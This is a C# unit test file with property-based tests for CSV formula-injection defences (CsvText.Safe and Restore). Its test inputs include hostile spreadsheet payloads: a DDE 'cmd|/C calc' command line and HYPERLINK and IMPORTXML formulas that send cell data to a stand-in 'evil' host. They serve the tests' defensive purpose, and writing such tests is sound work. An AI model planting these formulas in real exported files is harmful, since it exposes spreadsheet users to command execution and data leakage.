using CsCheck;
using Hourglass.Exchange.Reading;
using Hourglass.Tests.Support;

namespace Hourglass.Tests.Exchange.Reading;

public sealed class TextThatLooksLikeAFormula
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1+1")]
    [InlineData("-1+1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1")]
    [InlineData("\r=1")]
    [InlineData("\n=1")]
    [InlineData(" =1")]
    [InlineData("\u00A0=1")]
    [InlineData("\uFF1D1")]
    [InlineData("\u200B=1")]
    [InlineData(";=1")]
    [InlineData(",=1")]
    [InlineData("x;\"=1")]
    [InlineData("x,+cmd|'/C calc'!A0")]
    [InlineData("=cmd|'/C calc'!A0")]
    [InlineData("=HYPERLINK(\"http://evil/?\"&A1)")]
    [InlineData("=IMPORTXML(CONCAT(\"http://evil\"),\"//a\")")]
    [InlineData("+7 999 123-45-67")]
    [InlineData("'=1")]
    [InlineData("''=1")]
    [InlineData("-5")]
    public void Is_written_inert_and_comes_back_as_it_was(string text)
    {
        var safe = CsvText.Safe(text);
        Assert.NotEqual(text, safe);
        Assert.DoesNotMatch(@"(?:\A|[,;\t|\r\n])[\s""\u200B]*[=\uFF1D]", safe);
        Assert.DoesNotMatch(@"\A[\s\u200B]*[=+\-@]", safe);
        Assert.Equal(text, CsvText.Restore(safe));
    }

    [Theory]
    [InlineData("O'Brien")]
    [InlineData("'tis")]
    [InlineData("''quoted''")]
    [InlineData("%0A=1")]
    [InlineData("a, - b; @ivan, +1")]
    [InlineData("")]
    public void Is_left_alone_when_no_spreadsheet_would_run_it(string text)
    {
        Assert.Equal(text, CsvText.Safe(text));
        Assert.Equal(text, CsvText.Restore(text));
    }

    [Fact]
    public void Comes_back_as_it_was_whatever_it_is() =>
        Gen.OneOf(Gen.String, Gen.String["='\"+-@,;\t|\r\n (!a1\u00A0\uFF1D"]).Holds(text => CsvText.Restore(CsvText.Safe(text)) == text, 20_000);

    [Fact]
    public void Survives_a_file_and_back_whatever_it_is() =>
        Gen.String["='\"+-@,;\t| (!aЖ\n"].Where(s => s.Trim().Length > 0).Array[2, 3].Holds(cells =>
        {
            using var stream = new MemoryStream();
            using (var writer = CsvText.Writer(stream, ';'))
            {
                writer.WriteRow(cells.Select((_, i) => $"c{i}"));
                writer.WriteRow(cells);
            }
            var row = Tables.RowsAsync(SheetReader.OpenAsync(stream)).GetAwaiter().GetResult().Single();
            return row.Cells.SequenceEqual(cells) && row.Problem is null;
        }, 2000);
}
